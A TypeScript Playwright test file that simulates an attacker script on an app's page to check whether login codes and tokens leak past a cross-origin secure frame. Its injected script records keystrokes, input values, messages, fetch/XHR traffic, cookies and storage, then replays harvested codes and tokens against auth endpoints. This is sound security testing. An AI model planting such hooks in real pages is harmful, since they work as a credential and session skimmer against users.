import type { Frame, Page } from 'playwright-core'

/**
 * What a script on the app's page saw (issue 22): every key press and input value in the app's document, every
 * message posted to the app's window, every request the page made (with headers and bodies) and every answer
 * it could read, and, read at the end, every value in the app origin's storage and cookies.
 */
export interface Loot {
  keys: string[]
  messages: string[]
  requests: { url: string; headers: string; body: string }[]
  answers: string[]
  storage: string[]
}

/**
 * Installs the attacker: a script run on the app's page before any of the app's (`addInitScript`), as an XSS or
 * a compromised dependency would be. It runs in the top window only: it is on the app's origin, and the secure
 * site's frame is another origin it cannot enter.
 */
export async function installPageAttacker(page: Page): Promise<void> {
  await page.addInitScript(() => {
    if (window.top !== window) return
    const loot = {
      keys: [] as string[],
      messages: [] as string[],
      requests: [] as unknown[],
      answers: [] as string[],
    }
    Object.defineProperty(window, '__loot', { value: loot })
    const text = (v: unknown) => {
      try {
        return typeof v === 'string' ? v : JSON.stringify(v)
      } catch {
        return String(v)
      }
    }
    for (const type of ['keydown', 'keypress', 'keyup'])
      document.addEventListener(type, (e) => loot.keys.push((e as KeyboardEvent).key), true)
    document.addEventListener(
      'input',
      (e) => {
        const target = e.composedPath()[0] as { value?: unknown }
        if (target && 'value' in target) loot.keys.push(String(target.value))
      },
      true,
    )
    window.addEventListener('message', (e) => loot.messages.push(text(e.data)), true)
    const realFetch = window.fetch
    window.fetch = async function (input: RequestInfo | URL, init?: RequestInit) {
      const url = input instanceof Request ? input.url : String(input)
      loot.requests.push({ url, headers: text(init?.headers ?? {}), body: text(init?.body ?? '') })
      const res = await realFetch.call(this, input, init)
      res
        .clone()
        .text()
        .then((t) => loot.answers.push(t))
        .catch(() => undefined)
      return res
    }
    const open = XMLHttpRequest.prototype.open
    const send = XMLHttpRequest.prototype.send
    XMLHttpRequest.prototype.open = function (this: XMLHttpRequest, ...args: unknown[]) {
      ;(this as unknown as { __url: string }).__url = String(args[1])
      return (open as (...a: unknown[]) => void).apply(this, args)
    }
    XMLHttpRequest.prototype.send = function (
      this: XMLHttpRequest,
      body?: Document | XMLHttpRequestBodyInit | null,
    ) {
      loot.requests.push({
        url: (this as unknown as { __url: string }).__url,
        headers: '',
        body: text(body ?? ''),
      })
      this.addEventListener('load', () => loot.answers.push(String(this.responseText)))
      return send.call(this, body)
    }
  })
}

/** Everything the attacker recorded, with the app origin's storage and cookies read now. */
export async function collectLoot(page: Page): Promise<Loot> {
  return page.evaluate(() => {
    const loot = (
      window as unknown as { __loot: Omit<Loot, 'storage' | 'requests'> & { requests: Loot['requests'] } }
    ).__loot
    const storage: string[] = [document.cookie]
    for (const store of [localStorage, sessionStorage]) {
      for (let i = 0; i < store.length; i++) {
        const key = store.key(i) ?? ''
        storage.push(`${key}=${store.getItem(key)}`)
      }
    }
    return { ...loot, storage }
  })
}

/** Every string in the loot that could be a code (six digits) or a token (a long base64url-ish run). */
export function candidates(loot: Loot): { codes: string[]; tokens: string[] } {
  const all = JSON.stringify(loot)
  const codes = [...new Set(all.match(/(?<![0-9])[0-9]{6}(?![0-9])/g) ?? [])]
  const tokens = [...new Set(all.match(/[A-Za-z0-9_-]{24,}(?:\.[A-Za-z0-9_-]+){0,2}/g) ?? [])]
  return { codes, tokens }
}

/** One call the attacker made from the app's page, and what it got. */
export interface AttackCall {
  what: string
  status: number
  body: string
}

/**
 * The attacker uses what it saw: from the app's page (its own origin), it asks the gateway to check every
 * code-like string for `email`, asks for a fresh code itself, presents every token-like string to the key store
 * and the session refresh, and asks the secure site's server for the wrapping key with each.
 */
export async function attackWithLoot(
  page: Page,
  target: { gateway: string; secure: string; projectId: string; email: string },
  loot: Loot,
): Promise<AttackCall[]> {
  const { codes, tokens } = candidates(loot)
  return page.evaluate(
    async ({ gateway, secure, projectId, email, codes, tokens }) => {
      const calls: { what: string; status: number; body: string }[] = []
      const call = async (what: string, url: string, init: RequestInit) => {
        try {
          const res = await fetch(url, init)
          calls.push({ what, status: res.status, body: await res.text() })
        } catch (error) {
          // A CORS refusal reads as a network error: nothing came back to the page.
          calls.push({ what, status: 0, body: String(error) })
        }
      }
      const q = `?projectId=${encodeURIComponent(projectId)}`
      const json = (body: unknown, token?: string): RequestInit => ({
        method: 'POST',
        headers: {
          'content-type': 'application/json',
          ...(token ? { authorization: `Bearer ${token}` } : {}),
        },
        body: JSON.stringify(body),
      })
      await call('email/start', `${gateway}/auth/v1/email/start${q}`, json({ email }))
      for (const code of codes.slice(0, 20))
        await call(`email/verify ${code}`, `${gateway}/auth/v1/email/verify${q}`, json({ email, code }))
      for (const token of tokens.slice(0, 40)) {
        await call('wallet', `${gateway}/auth/v1/wallet${q}`, {
          headers: { authorization: `Bearer ${token}` },
        })
        await call('session/refresh', `${gateway}/auth/v1/session/refresh${q}`, json({ refreshToken: token }))
        await call('wrap-key', `${secure}/api/wrap-key${q}`, json({}, token))
      }
      return calls
    },
    { ...target, codes, tokens },
  )
}

/**
 * A recorder in the secure site's frame (test harness, not the attacker): every message the app posted to it,
 * so the test can check what crossed the frame boundary in that direction too.
 */
export async function installFrameRecorder(page: Page, secureOrigin: string): Promise<void> {
  await page.addInitScript((origin) => {
    if (window.top === window || location.origin !== origin) return
    const received: string[] = []
    Object.defineProperty(window, '__received', { value: received })
    window.addEventListener('message', (e) => received.push(JSON.stringify(e.data)), true)
  }, secureOrigin)
}

/** The messages the secure frame received, and its own storage (where its session lives). */
export async function frameRecords(frame: Frame): Promise<{ received: string[]; storage: string[] }> {
  return frame.evaluate(() => {
    const storage: string[] = []
    for (let i = 0; i < localStorage.length; i++)
      storage.push(localStorage.getItem(localStorage.key(i) ?? '') ?? '')
    return { received: (window as unknown as { __received: string[] }).__received ?? [], storage }
  })
}
